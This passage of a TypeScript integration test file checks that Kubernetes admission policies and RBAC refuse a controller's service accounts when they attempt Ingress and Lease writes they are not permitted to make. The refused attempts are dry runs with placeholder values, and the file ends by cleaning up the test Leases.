            namespace,
            name: 'db-admin',
            dryRun,
            body: [
              {
                op: 'replace',
                path: '/spec/rules/0/http/paths/0/backend/service/name',
                value: ROUTE_SERVICE,
              },
            ],
          },
          jsonPatch,
        ),
    ],
    [
      'activator restores, and points another path at the route Service',
      () => patch(asActivator(), restore({ rules: pointed(0, 1, ROUTE_SERVICE) })),
    ],
    [
      'activator restores a path to a Service 0.1 did not record',
      () => patch(asActivator(), restore({ rules: pointed(0, 0, 'db') })),
    ],
    [
      'activator restores, and re-points a path that 0.1 left alone',
      () => patch(asActivator(), restore({ rules: pointed(0, 2, 'web') })),
    ],
    [
      'activator restores, keeping nozzle.io/backends',
      () => patch(asActivator(), restore({ annotations: { [annotations.backends]: '{"v":1,"paths":[]}' } })),
    ],
    [
      'activator restores, keeping nozzle.io/managed',
      () => patch(asActivator(), restore({ labels: { [labels.managed]: 'true' } })),
    ],
    [
      'activator restores, and adds an annotation',
      () =>
        patch(asActivator(), restore({ annotations: { 'nginx.ingress.kubernetes.io/server-snippet': 'x' } })),
    ],
    [
      'activator restores, and changes the TLS secret',
      () =>
        patch(asActivator(), {
          ...restore(),
          spec: { rules: original, tls: [{ hosts: ['shop.example.com'], secretName: 'evil' }] },
        }),
    ],
  ]);
  t.deepEqual(await snapshot(kube, namespace), rewritten, 'nothing changed');

  // Allowed: the activator's restore, as the 0.1 upgrade runs it.
  t.deepEqual(await restoreIngresses(asActivator(), namespace), ['shop']);
  const after = await snapshot(kube, namespace);
  t.is(JSON.stringify(after.ingresses.shop?.spec), JSON.stringify(before.ingresses.shop?.spec));
  t.deepEqual(after.ingresses.shop?.metadata?.labels, before.ingresses.shop?.metadata?.labels);
  t.deepEqual(after.ingresses.shop?.metadata?.annotations, before.ingresses.shop?.metadata?.annotations);
  await allRefusedBy(t, 'nozzle-ingresses', [
    [
      'activator writes an Ingress 0.1 no longer has rewritten',
      () => patch(asActivator(), { spec: { rules: pointed(0, 0, ROUTE_SERVICE) } }),
    ],
  ]);
});

test('Leases: the worker takes and releases port Leases, and writes no other Lease', async (t) => {
  const system = 'nozzle-system';
  const leader = 'nozzle-activator-leader';
  const createAsAdmin = (body: V1Lease) =>
    kube.coordination.createNamespacedLease({ namespace: system, body }).catch((err: unknown) => {
      if (statusOf(err) !== 409) throw err;
    });
  // The activator's leader Lease (another test's activator may already hold it) and two Leases
  // that are not Nozzle's: one named like a port Lease without the label, one of another name.
  // Ports 40000 and up: never taken from the default range (20000-29999) by other tests.
  const unlabelled = portLeaseName(40_000 + Math.floor(Math.random() * 10_000));
  const foreign = uniqueName('someone-elses');
  await createAsAdmin({ metadata: { name: leader }, spec: {} });
  await createAsAdmin({ metadata: { name: unlabelled }, spec: { holderIdentity: 'x' } });
  await createAsAdmin({ metadata: { name: foreign } });

  // Allowed: a port taken (create) and a duplicate released (delete) by lib/takeover, under the worker's token.
  const { namespace } = await createTakeoverShop(kube, 'vap-leases', { system, activators: 0 });
  const service = await kube.core.readNamespacedService({ namespace, name: 'api' });
  const taken = await assignPorts(asWorker(), { systemNamespace: system }, service);
  t.is(taken.created.length, 1);
  const [servicePort, port] = [...taken.ports][0]!;
  const target = { namespace, service: 'api', servicePort };
  const duplicate = 50_000 + Math.floor(Math.random() * 10_000);
  await kube.coordination.createNamespacedLease({
    namespace: system,
    body: portLease(target, service.metadata!.uid!, duplicate),
  });
  const repaired = await assignPorts(asWorker(), { systemNamespace: system }, service);
  t.deepEqual(repaired.repaired, [{ ...target, kept: port, released: [duplicate] }]);

  const dryRun = 'All';
  const create = (body: V1Lease) =>
    asWorker().coordination.createNamespacedLease({ namespace: system, body, dryRun });
  const remove = (name: string) =>
    asWorker().coordination.deleteNamespacedLease({ namespace: system, name, dryRun });
  const shaped = (change: (lease: V1Lease) => void, at = 40_000): V1Lease => {
    const lease = portLease(target, 'uid-1', at);
    change(lease);
    return lease;
  };
  await allRefusedBy(t, 'nozzle-worker-leases', [
    [
      'worker creates the leader Lease',
      () => create({ metadata: { name: leader }, spec: { holderIdentity: 'evil' } }),
    ],
    [
      "worker creates the leader Lease with a port Lease's labels",
      () => create(shaped((l) => (l.metadata!.name = leader))),
    ],
    ['worker deletes the leader Lease', () => remove(leader)],
    ['worker creates an unlabelled port Lease', () => create({ metadata: { name: portLeaseName(40_001) } })],
    [
      'worker creates a port Lease without the managed-by label',
      () => create(shaped((l) => delete l.metadata!.labels![labels.appManagedBy])),
    ],
    [
      'worker creates a labelled Lease of another name',
      () => create(shaped((l) => (l.metadata!.name = 'nozzle-portal'))),
    ],
    ['worker creates a port Lease past port 65535', () => create(shaped(() => undefined, 70_000))],
    [
      'worker creates a port Lease whose holder disagrees with its labels',
      () => create(shaped((l) => (l.spec!.holderIdentity = `${namespace}/web/http`))),
    ],
    [
      'worker creates a port Lease without the Service uid',
      () => create(shaped((l) => delete l.metadata!.annotations![annotations.serviceUid])),
    ],
    ['worker deletes an unlabelled port Lease', () => remove(unlabelled)],
    ["worker deletes someone else's Lease", () => remove(foreign)],
  ]);

  // Updates: the worker's Role has no `update`, so RBAC refuses; granted, the policy still does.
  const replace = async (name: string) => {
    const lease = await kube.coordination.readNamespacedLease({ namespace: system, name });
    const body = { ...lease, spec: { ...lease.spec, holderIdentity: 'evil' } };
    return asWorker().coordination.replaceNamespacedLease({ namespace: system, name, body, dryRun });
  };
  const byRbac = await replace(leader).catch((err: unknown) => err);
  t.is(statusOf(byRbac), 403);
  t.notRegex(describeError(byRbac), /ValidatingAdmissionPolicy/, 'refused by RBAC');
  const more = uniqueName('vap-lease-update');
  await rbac.createNamespacedRole({
    namespace: system,
    body: {
      metadata: { name: more },
      rules: [{ apiGroups: ['coordination.k8s.io'], resources: ['leases'], verbs: ['update'] }],
    },
  });
  await rbac.createNamespacedRoleBinding({
    namespace: system,
    body: {
      metadata: { name: more },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: more },
      subjects: [{ kind: 'ServiceAccount', name: 'nozzle-worker', namespace: system }],
    },
  });
  t.teardown(async () => {
    await rbac.deleteNamespacedRoleBinding({ namespace: system, name: more });
    await rbac.deleteNamespacedRole({ namespace: system, name: more });
  });
  await eventually('the Role is in effect', () => deniedBy('nozzle-worker-leases', () => replace(leader)));
  await allRefusedBy(t, 'nozzle-worker-leases', [
    ['worker updates the leader Lease', () => replace(leader)],
    ['worker updates its own port Lease', () => replace(portLeaseName(port))],
  ]);
  const held = await kube.coordination.readNamespacedLease({ namespace: system, name: portLeaseName(port) });
  t.is(held.spec?.holderIdentity, `${namespace}/api/${servicePort}`, 'unchanged');

  // Allowed: the worker gives its port up (a delete, as its repair does).
  await asWorker().coordination.deleteNamespacedLease({ namespace: system, name: portLeaseName(port) });
  for (const name of [unlabelled, foreign]) {
    t.truthy(await kube.coordination.readNamespacedLease({ namespace: system, name }), `${name} still there`);
    await kube.coordination.deleteNamespacedLease({ namespace: system, name });
  }
});
